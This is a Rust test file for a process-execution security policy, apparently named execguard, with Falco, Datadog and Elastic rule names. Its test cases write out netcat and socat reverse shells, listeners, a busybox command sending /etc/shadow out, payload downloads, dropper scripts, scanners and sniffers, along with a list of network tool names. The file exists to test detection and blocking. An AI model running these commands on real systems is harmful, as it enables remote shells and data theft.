//! The default policy, case by case: what must fire (and which rule names itself) and what
//! must not (the known false positives of the source rules).

mod common;

use common::{exec, exec_argv, EventExt};
use execguard_policy::{Action, ExecEvent, FirstLook, Mode, Needs, Policy};

const NC: &str = "/usr/bin/nc.openbsd";
const NCAT: &str = "/usr/bin/ncat";
const SH: &str = "/bin/dash";
const BASH: &str = "/bin/bash";
const CURL: &str = "/usr/bin/curl";
const BUSYBOX: &str = "/bin/busybox";

use Action::{Alert, Allow, Block};

struct Case {
    why: &'static str,
    event: ExecEvent,
    decision: Action,
    rule: Option<&'static str>,
}

fn case(why: &'static str, event: ExecEvent, decision: Action, rule: Option<&'static str>) -> Case {
    Case { why, event, decision, rule }
}

fn truncated(mut event: ExecEvent) -> ExecEvent {
    event.execguard.args_truncated = true;
    event
}

fn cases() -> Vec<Case> {
    let rce = Some("falco.netcat_rce");
    let shell = Some("datadog.netcat_shell");
    let launch = Some("falco.launch_suspicious_network_tool");
    let net_util = Some("datadog.net_util_in_container");
    let writable_ancestor = Some("datadog.net_util_in_container.writable_ancestor");
    let writable_file = Some("execguard.net_util_from_writable_location");
    let sniffer = Some("datadog.network_sniffing_tool");
    let scanner = Some("datadog.network_scanner");
    let port_scan = Some("execguard.netcat_port_scan");
    let shell_arg = Some("elastic.suspicious_network_tool.shell_argument");
    vec![
        // Ordinary commands.
        case("ls is not a network tool", exec("/bin/ls", "ls -la /"), Allow, None),
        case("cat is not a network tool", exec("/bin/cat", "cat /etc/passwd"), Allow, None),
        case("busybox applets are named by argv[0]", exec(BUSYBOX, "ls -l"), Allow, None),
        case("busybox APPLET form", exec(BUSYBOX, "busybox ls"), Allow, None),
        case("ncal is a calendar, not netcat", exec("/usr/bin/ncal", "ncal 2026"), Allow, None),
        case("ncdu is a disk usage viewer", exec("/usr/bin/ncdu", "ncdu /"), Allow, None),
        case(
            "a shell running inline code is not itself a tool",
            exec_argv(SH, &["sh", "-c", "nc 10.0.0.1 4444 -e /bin/sh"]),
            Allow,
            None,
        ),
        // Naming a tool is not running it.
        case("which nc", exec("/usr/bin/which", "which nc"), Allow, None),
        case("man nc", exec("/usr/bin/man", "man nc"), Allow, None),
        case(
            "apt-get install netcat-openbsd",
            exec("/usr/bin/apt-get", "apt-get install -y netcat-openbsd"),
            Allow,
            None,
        ),
        case("chmod on nc", exec("/bin/chmod", "chmod 755 /usr/bin/nc"), Allow, None),
        case("sh which nc from a terminal", exec(SH, "sh which nc").interactive(), Allow, None),
        case("sh chmod nc from a terminal", exec(SH, "sh /usr/bin/chmod nc").interactive(), Allow, None),
        // Netcat with a shell.
        case("nc -e before operands", exec(NC, "nc -e /bin/sh 10.0.0.1 4444"), Block, rce),
        case("nc -e after operands (GNU permutation)", exec(NC, "nc 10.0.0.1 4444 -e /bin/sh"), Block, rce),
        case("nc -c", exec_argv("/bin/nc.traditional", &["nc", "-c", "sh -i", "10.0.0.1", "4444"]), Block, rce),
        case("-e inside a cluster with its value", exec(NC, "nc -ve/bin/sh 10.0.0.1 4444"), Block, rce),
        case("ncat --sh-exec", exec_argv(NCAT, &["ncat", "--sh-exec", "/bin/sh", "10.0.0.1", "4444"]), Block, rce),
        case("ncat --exec=VALUE", exec(NCAT, "ncat --exec=/bin/bash 10.0.0.1 4444"), Block, rce),
        case("ncat --lua-exec", exec(NCAT, "ncat --lua-exec x.lua 10.0.0.1 4444"), Block, rce),
        case("ncat --sh-exe (getopt_long abbreviation)", exec(NCAT, "ncat --sh-exe /bin/sh 10.0.0.1 4444"), Block, rce),
        case("nc RCE on localhost is not excused", exec(NC, "nc -e /bin/sh localhost 4444"), Block, rce),
        case(
            "the nc that sh -c leads to",
            exec(NC, "nc 10.0.0.1 4444 -e /bin/sh").parent(SH, &["sh", "-c", "nc 10.0.0.1 4444 -e /bin/sh"]),
            Block,
            rce,
        ),
        case("nc -lp (listener)", exec(NC, "nc -lp 4444"), Block, shell),
        case("nc -l -p", exec(NC, "nc -l -p 4444"), Block, shell),
        case("nc -nv", exec(NC, "nc -nv 10.0.0.1 22"), Block, shell),
        case("nc with a shell argument", exec(NC, "nc 10.0.0.1 4444 /bin/sh"), Block, shell),
        case("a listener on localhost is still a listener", exec(NC, "nc -l -p 4444 localhost"), Block, shell),
        case("busybox nc -lp", exec(BUSYBOX, "busybox nc -lp 4444"), Block, shell),
        case("busybox symlink /bin/nc", exec(BUSYBOX, "nc -l -p 4444"), Block, shell),
        // A file the supervisor identified as busybox, under whatever name it was run.
        case("busybox sleep (Alpine's /bin/sleep)", exec("/bin/sleep", "sleep 1").identity("busybox"), Allow, None),
        case("busybox's nc applet", exec("/bin/nc", "nc 10.0.0.1 4444").identity("busybox"), Block, launch),
        case(
            "argv[0] that busybox takes for itself",
            exec("/bin/ls", "busybox-x86_64 nc -lp 4444").identity("busybox"),
            Block,
            shell,
        ),
        case("busybox --help nc runs nothing", exec(BUSYBOX, "busybox --help nc"), Allow, None),
        case(
            "busybox telnetd binds a shell",
            exec(BUSYBOX, "telnetd -l /bin/sh -p 2323"),
            Block,
            Some("execguard.net_applet_shell_or_transfer"),
        ),
        case(
            "busybox tcpsvd binds a program to a port",
            exec(BUSYBOX, "busybox tcpsvd 0 4444 /bin/sh"),
            Block,
            Some("execguard.net_applet_shell_or_transfer"),
        ),
        case(
            "busybox ftpput moves a file out",
            exec(BUSYBOX, "ftpput 10.0.0.1 x /etc/shadow"),
            Block,
            Some("execguard.net_applet_shell_or_transfer"),
        ),
        case("busybox httpd is alerted", exec(BUSYBOX, "httpd -f -p 8080"), Alert, Some("execguard.net_applet")),
        case("busybox pscan is a scanner", exec(BUSYBOX, "pscan 10.0.0.1"), Block, scanner),
        case("nping is a scanner", exec("/usr/bin/nping", "nping --tcp 10.0.0.1"), Block, scanner),
        // Netcat, plain.
        case("nc connect", exec(NC, "nc 10.0.0.1 4444"), Block, launch),
        case("exec -a foo nc is still nc", exec(NC, "foo 10.0.0.1 4444"), Block, launch),
        case(
            "renamed copy of nc, by identity",
            exec("/usr/local/bin/foo", "foo 10.0.0.1 4444").identity("nc"),
            Block,
            launch,
        ),
        case(
            "renamed copy of nc in /tmp",
            exec("/tmp/x", "x 10.0.0.1 4444").identity("nc").writable_location(),
            Block,
            writable_file,
        ),
        case("netcat.openbsd", exec("/bin/netcat.openbsd", "netcat 10.0.0.1 80"), Block, launch),
        case("nc from a terminal", exec(NC, "nc 10.0.0.1 4444").interactive(), Block, launch),
        case("nc -z localhost 80 (health check)", exec(NC, "nc -z localhost 80"), Allow, None),
        case("nc -z 127.0.0.1 from a terminal", exec(NC, "nc -z 127.0.0.1 80").interactive(), Allow, None),
        case("nc -zv to another host is a port scan", exec(NC, "nc -zv 10.0.0.5 22"), Block, port_scan),
        case("nc -znv 10.0.0.5 is a port scan", exec(NC, "nc -znv 10.0.0.5 1-1024"), Block, port_scan),
        case("the common self-probe nc -znv 127.0.0.1", exec(NC, "nc -znv 127.0.0.1 8080"), Allow, None),
        case("a self-probe of ::1", exec(NC, "nc -z -w 1 ::1 8080"), Allow, None),
        case("a self-probe with a shell is a shell", exec(NC, "nc -z 127.0.0.1 80 -e /bin/sh"), Block, rce),
        case("localhost as a source address is no destination", exec(NC, "nc -s 127.0.0.1 10.0.0.5 80"), Block, launch),
        case(
            "localhost as a proxy user is no destination",
            exec(NCAT, "ncat --proxy-auth localhost:pw 10.0.0.5 80"),
            Block,
            launch,
        ),
        case("a remote proxy to localhost", exec(NC, "nc -x 10.0.0.9:1080 localhost 22"), Block, launch),
        case("localhost.example is not localhost", exec(NC, "nc localhost.example 80"), Block, launch),
        case("nc to a local service", exec(NC, "nc localhost 6379"), Allow, None),
        case(
            "nc started through the dynamic loader",
            exec(
                "/usr/lib/x86_64-linux-gnu/ld-linux-x86-64.so.2",
                "/lib64/ld-linux-x86-64.so.2 /usr/bin/nc 10.0.0.1 4444",
            ),
            Block,
            launch,
        ),
        case(
            "a renamed nc through the loader, known by the program's identity",
            exec("/lib64/ld-linux-x86-64.so.2", "ld.so /tmp/x -e /bin/sh 10.0.0.1 4444").identity("nc"),
            Block,
            rce,
        ),
        case(
            "the loader listing a program's libraries",
            exec("/lib64/ld-linux-x86-64.so.2", "ld.so --list /usr/bin/nc"),
            Allow,
            None,
        ),
        // Other offensive tools.
        case("socat", exec("/usr/bin/socat", "socat TCP:10.0.0.1:4444 EXEC:/bin/sh"), Block, launch),
        case("telnet", exec("/usr/bin/telnet", "telnet 10.0.0.1 23"), Block, launch),
        case("telnet from a terminal", exec("/usr/bin/telnet", "telnet 10.0.0.1 23").interactive(), Block, launch),
        case("mitmproxy", exec("/usr/local/bin/mitmproxy", "mitmproxy -p 8080"), Block, launch),
        case("ngrep", exec("/usr/bin/ngrep", "ngrep -q password"), Block, launch),
        case("tcpdump", exec("/usr/sbin/tcpdump", "tcpdump -i eth0 -w /tmp/x"), Block, sniffer),
        case("tshark", exec("/usr/bin/tshark", "tshark -i any"), Block, sniffer),
        case("nmap", exec("/usr/bin/nmap", "nmap -sS 10.0.0.0/24"), Block, scanner),
        case("masscan", exec("/usr/bin/masscan", "masscan -p1-65535 10.0.0.0/8"), Block, scanner),
        case("fping", exec("/usr/bin/fping", "fping -g 10.0.0.0/24"), Block, scanner),
        case("zgrab2", exec("/usr/local/bin/zgrab2", "zgrab2 http"), Block, scanner),
        case("rustscan", exec("/usr/local/bin/rustscan", "rustscan -a 10.0.0.1"), Block, scanner),
        case("zmap from a terminal", exec("/usr/sbin/zmap", "zmap -p 80").interactive(), Block, scanner),
        // Everyday tools: alerted, not blocked, unless local.
        case("curl to the internet", exec(CURL, "curl -fsSL https://example.com/install.sh"), Alert, net_util),
        case("curl health check on localhost", exec(CURL, "curl -fsS http://localhost:8080/healthz"), Allow, None),
        case("curl metrics on 127.0.0.1", exec(CURL, "curl http://127.0.0.1:9090/metrics"), Allow, None),
        case("wget of motd.ubuntu.com", exec("/usr/bin/wget", "wget -qO- https://motd.ubuntu.com"), Allow, None),
        case("wget", exec("/usr/bin/wget", "wget http://203.0.113.7/payload"), Alert, net_util),
        case("lwp-download", exec("/usr/bin/lwp-download", "lwp-download http://203.0.113.7/x"), Alert, net_util),
        case("dig is alerted, not blocked (Falco lists it)", exec("/usr/bin/dig", "dig example.com"), Alert, net_util),
        case("dig asking a local server", exec("/usr/bin/dig", "dig @127.0.0.1 example.com"), Allow, None),
        case("dig localhost asks the resolver", exec("/usr/bin/dig", "dig localhost"), Alert, net_util),
        case("curl health check on ::1", exec(CURL, "curl -fsS http://[::1]:8080/healthz"), Allow, None),
        case(
            "localhost in a header of a remote request",
            exec_argv(CURL, &["curl", "-H", "Host: localhost", "https://203.0.113.7/x?from=127.0.0.1"]),
            Alert,
            net_util,
        ),
        case("localhost.example is remote", exec(CURL, "curl http://localhost.example/"), Alert, net_util),
        case("a remote proxy for localhost", exec(CURL, "curl -x 203.0.113.7:3128 http://localhost/"), Alert, net_util),
        case(
            "curl with an option value before the URL",
            exec(CURL, "curl -s -o /dev/null -w %{http_code} http://localhost/"),
            Allow,
            None,
        ),
        case("wget -qO- on loopback", exec("/usr/bin/wget", "wget -qO- http://127.0.0.1:8080/ready"), Allow, None),
        case("Ubuntu's motd", exec(CURL, "curl -s https://motd.ubuntu.com"), Allow, None),
        case("nslookup", exec("/usr/bin/nslookup", "nslookup example.com"), Alert, net_util),
        case("host", exec("/usr/bin/host", "host example.com"), Alert, net_util),
        case(
            "curl started by an application script",
            exec(CURL, "curl https://example.com").parent(SH, &["sh", "/opt/app/start.sh"]),
            Alert,
            net_util,
        ),
        // Writable locations.
        case(
            "curl run by a script in /tmp",
            exec(CURL, "curl https://example.com").parent(SH, &["sh", "/tmp/dropper.sh"]),
            Block,
            writable_ancestor,
        ),
        case(
            "curl run by ./dropper.sh in /tmp",
            exec(CURL, "curl https://example.com").parent_in(SH, &["/bin/sh", "./dropper.sh"], "/tmp"),
            Block,
            writable_ancestor,
        ),
        case(
            "localhost does not excuse a /tmp script",
            exec(CURL, "curl http://localhost/x").parent(SH, &["sh", "/tmp/x.sh"]),
            Block,
            writable_ancestor,
        ),
        case(
            "curl run by a binary in /var/tmp",
            exec(CURL, "curl https://example.com").parent("/var/tmp/.x/agent", &["agent"]),
            Block,
            writable_ancestor,
        ),
        case(
            "curl whose grandparent is in /dev/shm",
            exec(CURL, "curl https://example.com")
                .parent(SH, &["sh", "-c", "curl https://example.com"])
                .ancestor("/dev/shm/implant", &["implant"]),
            Block,
            writable_ancestor,
        ),
        case(
            "curl run by a python script in a home dir",
            exec(CURL, "curl https://example.com").parent("/usr/bin/python3.11", &["python3", "/home/user/x.py"]),
            Block,
            writable_ancestor,
        ),
        case("curl from /tmp", exec("/tmp/curl", "curl https://example.com").writable_location(), Block, writable_file),
        case(
            "curl added after the container started",
            exec(CURL, "curl https://example.com").not_in_image(),
            Block,
            writable_file,
        ),
        case(
            "curl from a memfd",
            exec("/memfd:x (deleted)", "curl https://example.com").identity("curl").fileless(),
            Block,
            writable_file,
        ),
        case(
            "curl with an argument list cut at the limit",
            truncated(exec(CURL, "curl -H x -H x")),
            Block,
            Some("execguard.net_util_args_truncated"),
        ),
        case("ls with an argument list cut at the limit", truncated(exec("/bin/ls", "ls a b c")), Allow, None),
        // Elastic's shell-argument form (interactive only).
        case("bash nc from a terminal", exec(BASH, "bash nc 10.0.0.1 4444").interactive(), Block, shell_arg),
        case("sh /usr/bin/nc from a terminal", exec(SH, "sh /usr/bin/nc").interactive(), Block, shell_arg),
        case("bash nmap without a terminal is not Elastic's case", exec(BASH, "bash nmap"), Allow, None),
        // Related Falco rules.
        case("a program in /dev/shm", exec("/dev/shm/x", "x"), Alert, Some("falco.execution_from_dev_shm")),
        case("a script in /dev/shm", exec(SH, "sh /dev/shm/x.sh"), Alert, Some("falco.execution_from_dev_shm")),
        case("listing /dev/shm runs nothing from it", exec("/bin/ls", "ls -l /dev/shm/x"), Allow, None),
        case(
            "curl whose parent merely reads a file in /tmp",
            exec(CURL, "curl x").parent("/usr/bin/xargs", &["xargs", "-a", "/tmp/urls", "curl"]),
            Alert,
            net_util,
        ),
        case(
            "a binary not in the image",
            exec("/usr/local/bin/new", "new").not_in_image(),
            Alert,
            Some("falco.drop_and_execute_new_binary"),
        ),
        case(
            "fileless execution",
            exec("/memfd:payload (deleted)", "payload").fileless(),
            Alert,
            Some("execguard.fileless_execution"),
        ),
    ]
}

#[test]
fn default_policy_decides_every_case() {
    let policy = Policy::embedded().unwrap();
    assert_eq!(policy.mode(), Mode::Enforce);
    let cases = cases();
    assert!(cases.len() >= 60, "the table should stay broad");
    let mut failures = Vec::new();
    for case in &cases {
        let record = policy.record(&case.event, &policy.decide(&case.event));
        let rule = record.rule.as_ref().map(|r| r.id.as_str());
        if record.decision != case.decision || rule != case.rule {
            failures.push(format!(
                "{}: expected {:?} by {:?}, got {:?} by {:?} ({})",
                case.why, case.decision, case.rule, record.decision, rule, record.reason
            ));
        }
        assert!(!record.reason.is_empty());
    }
    assert!(failures.is_empty(), "{} of {} cases failed:\n{}", failures.len(), cases.len(), failures.join("\n"));
}

#[test]
fn monitor_mode_alerts_where_enforce_blocks() {
    let policy = Policy::embedded().unwrap().with_mode(Mode::Monitor);
    for case in cases() {
        let decision = policy.decide(&case.event);
        let expected = if case.decision == Block { Alert } else { case.decision };
        assert_eq!(decision.action, expected, "{}", case.why);
        let record = policy.record(&case.event, &decision);
        if case.decision == Block {
            assert!(record.reason.contains("would block"), "{}: {}", case.why, record.reason);
        }
    }
}

#[test]
fn reasons_name_what_matched() {
    let policy = Policy::embedded().unwrap();
    let event = exec(NC, "nc 10.0.0.1 4444 -e /bin/sh");
    let reason = policy.record(&event, &policy.decide(&event)).reason;
    assert!(reason.contains("nc.openbsd") && reason.contains("flag -e"), "{reason}");
    let event = exec(CURL, "curl x").parent(SH, &["sh", "/tmp/dropper.sh"]);
    let reason = policy.record(&event, &policy.decide(&event)).reason;
    assert!(reason.contains("parent /bin/dash") && reason.contains("/tmp/dropper.sh"), "{reason}");
    let event = exec(NC, "nc -z localhost 80");
    let reason = policy.record(&event, &policy.decide(&event)).reason;
    assert!(reason.contains("exception"), "{reason}");
}

#[test]
fn needs_follow_the_rules_that_may_match() {
    let policy = Policy::embedded().unwrap();
    // No rule about ls looks at the parent or the terminal: the supervisor skips /proc.
    let ls = policy.needs(&exec("/bin/ls", "ls"));
    assert!(!ls.parent && !ls.ancestors && !ls.interactive, "{ls:?}");
    // The /dev/shm rule reads the script path of interpreters, which may be relative.
    assert!(!ls.working_directory);
    assert!(policy.needs(&exec(SH, "sh x.sh")).working_directory);
    // Only a relative script needs it: a command string or an absolute path is complete.
    assert!(!policy.needs(&exec(SH, "sh -c true")).working_directory);
    assert!(!policy.needs(&exec(SH, "sh /dev/shm/x.sh")).working_directory);
    let from_shm = exec(SH, "sh /dev/shm/x.sh");
    assert_eq!(policy.decide(&from_shm).action, Action::Alert);
    let curl = policy.needs(&exec(CURL, "curl x"));
    assert!(curl.parent && curl.ancestors, "{curl:?}");
    let nc = policy.needs(&exec(NC, "nc x"));
    assert!(nc.interactive && nc.ancestors, "{nc:?}");
    // Elastic's shell rule asks for a terminal only when a tool is named.
    let bash = policy.needs(&exec(BASH, "bash"));
    assert!(!bash.interactive && !bash.parent, "{bash:?}");
    let bash_nc = policy.needs(&exec(BASH, "bash nc"));
    assert!(bash_nc.interactive && !bash_nc.parent, "{bash_nc:?}");
}

/// The supervisor's one-pass look gives what the two passes give: the needs when the
/// rules need something, else the very decision `decide` makes.
#[test]
fn first_look_is_needs_then_decide() {
    let (mut decided, mut needing, mut decided_not_allowed) = (0, 0, 0);
    for mode in [Mode::Enforce, Mode::Monitor] {
        let policy = Policy::embedded().unwrap().with_mode(mode);
        for case in cases() {
            let needs = policy.needs(&case.event);
            let expected = if needs == Needs::default() {
                decided += 1;
                let decision = policy.decide(&case.event);
                decided_not_allowed += usize::from(decision.action != Allow);
                FirstLook::Decided(decision)
            } else {
                needing += 1;
                FirstLook::Needs(needs)
            };
            assert_eq!(policy.first_look(&case.event), expected, "{mode}: {}", case.why);
        }
    }
    assert!(decided > 0 && needing > 0 && decided_not_allowed > 0, "{decided} {needing} {decided_not_allowed}");
}

#[test]
fn the_shipped_file_is_the_embedded_policy() {
    let shipped = std::fs::read_to_string(concat!(env!("CARGO_MANIFEST_DIR"), "/../config/policy.toml")).unwrap();
    assert_eq!(shipped, execguard_policy::DEFAULT_POLICY);
}

/// The supervisor learns the files of exactly these names: every tool a rule names, and
/// the multi-call binaries whose applets rules name.
#[test]
fn tool_names_are_the_names_the_rules_match() {
    let policy = Policy::embedded().unwrap();
    let names: Vec<&str> = policy.tool_names().iter().map(|name| &**name).collect();
    for name in ["nc", "ncat", "netcat", "socat", "nmap", "nping", "pscan", "tcpdump", "curl", "wget", "telnetd"] {
        assert!(names.contains(&name), "{name} missing from {names:?}");
    }
    for name in ["busybox", "toybox"] {
        assert!(names.contains(&name), "{name}");
    }
    assert!(!names.iter().any(|name| name.contains('*')), "globs name no file: {names:?}");
    assert!(names.contains(&"dash"), "a rule names the shells (a copy of dash is dash)");
}
